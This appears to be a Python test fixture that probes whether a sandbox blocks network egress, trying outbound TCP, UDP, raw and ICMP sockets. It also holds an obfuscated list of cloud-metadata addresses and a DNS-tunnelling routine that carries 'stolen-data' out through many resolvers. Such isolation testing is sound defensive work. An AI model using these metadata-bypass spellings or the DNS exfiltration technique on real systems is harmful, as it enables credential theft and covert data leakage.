"""A tool's file that reaches for anything over a network.

Runs inside a sandbox only; ``networking.py`` says what must come of it.
"""

# ruff: noqa: BLE001

import contextlib
import errno
import socket
import struct
from collections.abc import Callable
from pathlib import Path
from typing import Any

from bailiwick import tool

WAIT = 0.7
METADATA = (
    "169.254.169.254",  # most clouds
    "2852039166",  # the same, as one number
    "0xA9FEA9FE",
    "0xa9.0xfe.0xa9.0xfe",
    "0251.0376.0251.0376",
    "169.254.43518",
    "169.16689662",
    "::ffff:169.254.169.254",
    "::ffff:a9fe:a9fe",
    "64:ff9b::a9fe:a9fe",  # by a translator of IPv6
    "fd00:ec2::254",
    "169.254.170.2",  # credentials of tasks
    "169.254.0.23",
    "100.100.100.200",
    "192.0.0.192",
    "metadata.google.internal",
    "metadata",
    "instance-data",
    "169.254.169.254.nip.io",
)


def outcome(act: Callable[[], Any]) -> str:
    """``done``, or the name of the error that stopped it."""
    try:
        act()
    except OSError as error:
        return errno.errorcode.get(error.errno or 0, type(error).__name__)
    except Exception as error:
        return type(error).__name__
    return "done"


def connect(family: int, address: Any, kind: int = socket.SOCK_STREAM, protocol: int = 0) -> None:
    """Connect and send a byte."""
    with socket.socket(family, kind, protocol) as one:
        one.settimeout(WAIT)
        one.connect(address)
        one.send(b"x")


@tool
def reach_out(host_address: str, host_port: int, host_name: str) -> dict[str, str]:
    """Connect to the internet and to the host."""
    inet, inet6 = socket.AF_INET, socket.AF_INET6

    def connect_by_abstract_name() -> None:
        with socket.socket(socket.AF_UNIX) as one:
            one.settimeout(WAIT)
            one.connect("\0" + host_name)

    return {
        "abstract socket of the host": outcome(connect_by_abstract_name),
        "internet": outcome(lambda: connect(inet, ("1.1.1.1", 443))),
        "internet v6": outcome(lambda: connect(inet6, ("2606:4700:4700::1111", 443))),
        "host": outcome(lambda: connect(inet, (host_address, host_port))),
        "loopback of the host": outcome(lambda: connect(inet, ("127.0.0.1", host_port))),
        "any address of the host": outcome(lambda: connect(inet, ("0.0.0.0", host_port))),  # noqa: S104
        "name": outcome(lambda: socket.getaddrinfo("example.com", 443)),
    }


@tool
def send_packets() -> dict[str, str]:
    """Send what is no TCP: datagrams, a broadcast, a ping, raw IP."""
    inet, inet6, udp = socket.AF_INET, socket.AF_INET6, socket.SOCK_DGRAM

    def broadcast() -> None:
        with socket.socket(inet, udp) as one:
            one.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
            one.sendto(b"x", ("255.255.255.255", 9))

    def ping() -> None:
        with socket.socket(inet, udp, socket.IPPROTO_ICMP) as one:
            one.sendto(struct.pack(">BBHHH", 8, 0, 0, 1, 1), ("1.1.1.1", 0))

    return {
        "udp": outcome(lambda: connect(inet, ("1.1.1.1", 443), udp)),
        "udp v6": outcome(lambda: connect(inet6, ("2606:4700:4700::1111", 443), udp)),
        "multicast": outcome(lambda: connect(inet, ("224.0.0.251", 5353), udp)),
        "broadcast": outcome(broadcast),
        "ping": outcome(ping),
        "raw icmp": outcome(lambda: connect(inet, ("1.1.1.1", 0), socket.SOCK_RAW, socket.IPPROTO_ICMP)),
        "raw ip": outcome(lambda: connect(inet, ("1.1.1.1", 0), socket.SOCK_RAW, socket.IPPROTO_RAW)),
        "raw v6": outcome(lambda: connect(inet6, ("2606:4700:4700::1111", 0), socket.SOCK_RAW, 58)),
        "sctp": outcome(lambda: connect(inet, ("1.1.1.1", 443), socket.SOCK_STREAM, 132)),
    }


@tool
def ask_for_metadata() -> dict[str, str]:
    """Reach a cloud's metadata service, in every spelling of its address."""

    def reach(spelling: str) -> None:
        found = socket.getaddrinfo(spelling, 80, type=socket.SOCK_STREAM)
        connect(found[0][0], found[0][4])

    return {spelling: outcome(lambda spelling=spelling: reach(spelling)) for spelling in METADATA}


@tool
def tunnel_by_names() -> dict[str, str]:
    """Carry data out as names to be resolved, past whatever resolver there may be."""
    label = b"stolen-data".hex()
    question = struct.pack(">HHHHHH", 7, 0x0100, 1, 0, 0, 0)
    for part in (label, "example", "com"):
        question += bytes((len(part),)) + part.encode()
    question += b"\x00" + struct.pack(">HH", 16, 1)
    resolvers = ["127.0.0.53", "127.0.0.11", "127.0.0.1", "10.0.2.3", "169.254.169.253", "8.8.8.8", "1.1.1.1"]
    with contextlib.suppress(OSError):
        lines = Path("/etc/resolv.conf").read_text().splitlines()
        resolvers += [line.split()[1] for line in lines if line.startswith("nameserver ")]

    def ask(resolver: str) -> None:
        family = socket.AF_INET6 if ":" in resolver else socket.AF_INET
        with socket.socket(family, socket.SOCK_DGRAM) as one:
            one.settimeout(WAIT)
            one.connect((resolver, 53))
            one.send(question)
            if resolver.startswith("127."):
                one.recv(512)  # loopback takes anything; somebody must answer

    def ask_by_stream(resolver: str) -> None:
        connect(socket.AF_INET, (resolver, 53))

    return {
        "by the library": outcome(lambda: socket.getaddrinfo(f"{label}.example.com", 80)),
        "backwards": outcome(lambda: socket.gethostbyaddr("8.8.8.8")),
        **{f"datagram to {to}": outcome(lambda to=to: ask(to)) for to in dict.fromkeys(resolvers)},
        "stream to 8.8.8.8": outcome(lambda: ask_by_stream("8.8.8.8")),
    }
